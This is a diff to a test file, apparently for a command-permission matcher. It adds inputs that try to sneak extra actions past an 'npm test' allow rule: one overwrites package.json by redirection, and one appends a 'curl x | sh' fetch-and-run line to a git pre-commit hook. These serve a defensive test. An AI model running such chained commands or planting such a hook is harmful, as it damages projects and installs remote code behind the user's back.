@@ -38,6 +38,8 @@ test('a rule allows the commands that begin with its words, and only where every
     'npm test | sh',
     'npm test\nls',
     'npm test \\\n&& ls',
+    'npm test > package.json',
+    'npm test; echo "curl x | sh" >> .git/hooks/pre-commit',
     'FOO=bar npm test',
     'PATH=. npm test',
     'npm test &',
